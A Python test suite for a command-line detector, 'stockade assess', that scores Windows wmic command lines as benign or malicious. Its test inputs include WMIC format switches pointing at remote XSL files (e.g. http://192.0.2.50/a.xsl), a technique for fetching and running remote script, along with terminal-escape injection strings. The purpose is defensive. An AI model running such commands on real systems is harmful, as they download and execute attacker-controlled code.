"""`stockade assess`, as a person and as a pipeline use it."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from runner.cli import main

KEYS = ["id", "assessment", "score", "reasons", "indicators"]


def run(*arguments: str, given: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "runner.cli", "assess", *arguments]
    return subprocess.run(command, input=given, capture_output=True, check=False, timeout=60)


def judged(output: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in output.splitlines()]


def test_one_line_is_judged_for_a_person_to_read(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["assess", 'wmic os get /format:"http://192.0.2.50/a.xsl"']) == 0
    said = capsys.readouterr().out
    assert "Assessment: malicious, score 90 of 100 (each line begins at 40)." in said
    assert "+50" in said
    assert "address 192.0.2.50" in said


def test_one_line_as_json_is_the_object_alone(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["assess", "--json", "wmic os get /format:csv"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert list(found) == KEYS
    assert (found["assessment"], found["score"], found["id"]) == ("benign", 0, None)
    assert found["reasons"][0]["weight"] == -40


@pytest.mark.parametrize("arguments", [[], ["wmic", "--jsonl", "a"], ["--jsonl", "no-such-file"]])
def test_wrong_usage_is_exit_code_2(
    arguments: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["assess", *arguments]) == 2
    assert capsys.readouterr().out == ""


def test_file_is_judged_in_order_with_exactly_the_promised_keys(tmp_path: Path) -> None:
    rows = [
        {"cmdline": "wmic os get /format:csv", "id": "one", "label": "ignored"},
        {"cmdline": "wmic os get /format:evil.xsl", "id": 2, "host": "WS01", "user": None},
        {"cmdline": "wmic os get /format:csv", "parent": "C:\\Office\\WINWORD.EXE"},
    ]
    file = tmp_path / "lines.jsonl"
    file.write_text("\ufeff" + "\n\n".join(map(json.dumps, rows)), encoding="utf-8")
    done = run("--jsonl", str(file))
    assert (done.returncode, done.stderr) == (0, b"")
    found = judged(done.stdout)
    assert [list(one) for one in found] == [KEYS] * 3
    assert [one["id"] for one in found] == ["one", 2, None]
    assert [one["assessment"] for one in found] == ["benign", "suspicious", "benign"]
    assert "winword.exe" in found[2]["reasons"][1]["text"]


BAD = [
    (b"{", "no JSON"),
    (b"[]", "no JSON object"),
    (b"{}", "no text under the key cmdline"),
    (b'{"cmdline": 1}', "no text under the key cmdline"),
    (b'{"cmdline": "x", "user": 1}', "user is no text"),
    (b'{"cmdline": "x", "id": []}', "neither a text nor a whole number"),
    (b'{"cmdline": "\xff"}', "not UTF-8"),
    (b"[" * 100_000, "nested too deeply"),
    (b'{"cmdline": "' + b"a" * 1_100_000 + b'"}', "longer than"),
]


@pytest.mark.parametrize(("line", "why"), BAD)
def test_bad_line_is_named_and_the_rest_is_judged(line: bytes, why: str) -> None:
    good = b'{"cmdline": "wmic os get", "id": "a"}'
    done = run("--jsonl", "-", given=b"\n".join([good, line, good]))
    assert done.returncode == 1
    assert [one["id"] for one in judged(done.stdout)] == ["a", "a"]
    (said,) = done.stderr.decode().splitlines()
    assert said.startswith("line 2: ")
    assert why in said


def test_hostile_text_reaches_no_terminal_and_lone_surrogates_are_judged() -> None:
    line = b'{"cmdline": "wmic os get /format:\\"http://h.test/\\u001b[2J\\u202e\\ud800\\""}'
    done = run("--jsonl", "-", given=line)
    assert done.returncode == 0
    assert done.stdout.isascii()
    assert b"\x1b" not in done.stdout


def test_password_in_a_line_is_shown_nowhere() -> None:
    line = 'wmic /user:a /password:Zq7kX9 os get /format:"ftp://u:Zq7kX9@h.test/a"'
    for done in (
        run(line),
        run("--json", line),
        run("--jsonl", "-", given=json.dumps({"cmdline": line}).encode()),
    ):
        assert b"Zq7kX9" not in done.stdout + done.stderr
        assert b"***" in done.stdout


def test_neither_a_network_library_nor_a_configuration_is_touched(tmp_path: Path) -> None:
    code = (
        "import sys; from runner.cli import main; main(['assess', 'wmic os get /format:csv']);"
        "print([name for name in ('requests', 'tenacity', 'sqlite3', 'jinja2', 'yaml')"
        " if name in sys.modules])"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, check=True, cwd=tmp_path, text=True
    )
    assert done.stdout.splitlines()[-1] == "[]"
    assert list(tmp_path.iterdir()) == []


def test_long_file_does_not_fill_the_memory() -> None:
    code = (
        "import resource, sys; from runner.cli import main; main(['assess', '--jsonl', '-']);"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)"
    )
    line = json.dumps({"cmdline": f"wmic os get /format:{'a' * 2000}.xsl"}).encode() + b"\n"

    def peak_kb(count: int) -> int:
        done = subprocess.run(
            [sys.executable, "-c", code], input=line * count, capture_output=True, check=True
        )
        assert len(done.stdout.splitlines()) == count
        return int(done.stderr)

    # Three thousand such lines are 6 MB; kept, they would show.
    assert peak_kb(3200) - peak_kb(200) < 4000
